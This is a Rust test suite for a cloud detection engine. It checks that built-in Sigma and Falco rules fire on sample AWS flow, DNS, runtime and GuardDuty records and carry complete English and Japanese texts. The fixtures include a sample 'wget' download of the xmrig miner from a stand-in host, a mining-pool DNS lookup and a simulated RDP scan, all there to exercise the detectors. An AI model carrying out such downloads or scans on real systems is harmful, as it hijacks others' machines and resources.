//! Every built-in detection: complete, in both languages, and true to its examples.

#![allow(clippy::unwrap_used, clippy::panic, reason = "in a test, a failed unwrap is the assertion")]

use std::collections::BTreeSet;

use yagura_detect::falco::FieldTable;
use yagura_detect::pack::{self, PackDetection};
use yagura_detect::rule_files::{self, RuleFile};
use yagura_detect::sigma::{Correlations, Limits};
use yagura_detect::{Engines, Source, passed_on};
use yagura_logs::SourceKind;
use yagura_model::Lang;
use yagura_packs::Packs;

/// The files, with what they say.
fn all() -> Vec<(String, String, PackDetection)> {
    let packs = Packs::embedded();
    let files = ["detections/sigma", "detections/falco"].into_iter().flat_map(|it| packs.below(it, "yaml"));
    let files = files.map(|file| {
        let text = String::from_utf8(file.bytes().unwrap()).unwrap();
        let detection = PackDetection::read(&file.shown, &text).unwrap_or_else(|error| panic!("{error}"));
        (file.shown.clone(), text, detection)
    });
    files.collect()
}

#[test]
fn every_example_is_right() {
    let (fields, _) = FieldTable::load(&Packs::embedded());
    for (file, text, _) in all() {
        let tested = pack::test(&file, &text, &fields);
        assert!(tested.diagnostics.is_empty(), "{:#?}", tested.diagnostics);
        assert!(tested.right >= 2, "{file}");
    }
}

/// The built-in detections that match the records of a file, as it is delivered.
fn matches(file: &str) -> Vec<String> {
    let (fields, _) = FieldTable::load(&Packs::embedded());
    let files: Vec<_> =
        all().into_iter().map(|(shown, text, _)| RuleFile { shown, text, named: false }).collect();
    let set = rule_files::load(&files, &fields);
    assert_eq!(set.diagnostics, []);
    let engines = Engines::new(&set.falco, &set.sigma, &fields);
    assert_eq!(engines.sources().count(), 5, "there are rules about everything but GuardDuty's findings");
    let mut correlations = Correlations::new(set.correlations, Limits::default());
    let mut decoded = yagura_logs::Decoded::new(std::io::Cursor::new(file.to_owned()), None).unwrap();
    let mut found = Vec::new();
    while let Some((kind, record)) = decoded.next().unwrap() {
        let source = match kind {
            SourceKind::CloudTrail => Source::CloudTrail,
            SourceKind::KubernetesAudit => Source::KubernetesAudit,
            SourceKind::VpcFlow => Source::VpcFlow,
            SourceKind::Dns => Source::Dns,
            SourceKind::Runtime => Source::Runtime,
            SourceKind::GuardDuty => Source::GuardDuty,
            SourceKind::Unknown => panic!("{}", String::from_utf8_lossy(record)),
        };
        found.extend(passed_on(source, record).map(|it| format!("passed on: {}", it.title)));
        let Some((engine, event)) = engines.read(source, record).unwrap() else { continue };
        let mut fed = Vec::new();
        engine.matches_and_feeds(&event, |it| found.push(it.title.clone()), |it| fed.push(it));
        found.extend(fed.iter().flat_map(|it| correlations.feed(it)).map(|it| it.title));
    }
    found
}

#[test]
fn files_of_every_kind_go_past_the_rules_that_are_about_them() {
    let flows: String = (1..=60)
        .map(|n| format!("2 111122223333 eni-1 10.0.3.17 10.0.4.{n} 51344 3389 6 1 44 1764300000 1764300060 REJECT OK\n"))
        .collect();
    assert_eq!(matches(&flows), ["Many machines of the network tried on one port"]);
    let query = r#"{"version":"1.100000","account_id":"1","region":"r","vpc_id":"v","query_timestamp":"2026-01-01T00:00:00Z","query_name":"XMR-asia1.NanoPool.org.","query_type":"A","query_class":"IN","rcode":"NOERROR","answers":[],"srcaddr":"10.0.0.1","srcport":"1","transport":"UDP","srcids":{}}"#;
    assert_eq!(matches(query), ["Name of a mining pool looked up"]);
    let alert = r#"{"hostname":"h","output":"o","output_fields":{"container.id":"3ad7b26ded6d","evt.type":"execve","proc.cmdline":"wget https://x.example/xmrig.tar.gz","proc.name":"wget"},"priority":"Notice","rule":"Download tool run in container","source":"syscall","tags":[],"time":"2026-01-01T00:00:00Z"}"#;
    assert_eq!(
        matches(alert),
        ["passed on: Download tool run in container", "Cryptocurrency miner downloaded"]
    );
    let finding = r#"{"schemaVersion":"2.0","accountId":"1","id":"f","type":"Recon:EC2/PortProbeUnprotectedPort","severity":2,"service":{"archived":false},"title":"A port is probed.","updatedAt":"2026-01-01T00:00:00Z"}"#;
    assert_eq!(matches(finding), ["passed on: A port is probed."]);
}

/// An example says what AWS delivers, and under `yagura` what we derive from it: just that, as far as it says it.
#[test]
fn what_examples_say_is_derived_is_derived() {
    let mut seen = 0;
    for (file, _, it) in all() {
        let events = it.yagura.examples.iter().flat_map(|it| it.given().take(3));
        for event in events.filter(|it| it.get("yagura").is_some()) {
            let mut delivered = event.clone();
            let Some(said) = delivered.as_object_mut().and_then(|it| it.remove("yagura")) else { continue };
            let bytes = std::io::Cursor::new(delivered.to_string().into_bytes());
            let mut decoded = yagura_logs::Decoded::new(bytes, None).unwrap();
            let (_, record) = decoded.next().unwrap().unwrap();
            let record: serde_json::Value = serde_json::from_slice(record).unwrap();
            for (key, value) in said.as_object().unwrap() {
                assert_eq!(record["yagura"].get(key), Some(value), "{file}: {key} of {delivered}");
                seen += 1;
            }
        }
    }
    assert!(seen > 0, "no example was looked at");
}

#[test]
fn every_detection_has_its_texts_and_marks() {
    let (mut names, mut ids) = (BTreeSet::new(), BTreeSet::new());
    for (file, _, it) in all() {
        assert!(file.ends_with(&format!("/{}.yaml", it.name)), "{file} is called `{}` inside", it.name);
        assert!(
            names.insert(it.name.clone()) && ids.insert(it.id.clone()),
            "{file}: its name or id is used twice"
        );
        assert!(
            ["informational", "low", "medium", "high", "critical"].contains(&it.level.as_str()),
            "{file}"
        );
        assert!(it.tags.iter().any(|tag| tag.starts_with("attack.t1")), "{file} names no technique");
        assert!(it.references.iter().any(|it| it.starts_with("https://")), "{file}: where to read on?");
        assert!(
            it.title.chars().count() <= 100 && it.yagura.ja.title.chars().count() <= 60,
            "{file}: a title is too long"
        );
        for lang in [Lang::En, Lang::Ja] {
            assert!(!it.description(lang).trim().is_empty(), "{file}");
            assert!(!it.false_positives(lang).is_empty(), "{file}: what looks like it?");
            assert!(it.response(lang).len() >= 2, "{file}: what is to be done?");
        }
        let japanese = |text: &str| text.chars().any(|it| ('\u{3040}'..='\u{30ff}').contains(&it));
        assert!(japanese(it.description(Lang::Ja)) && !japanese(it.description(Lang::En)), "{file}");
    }
}
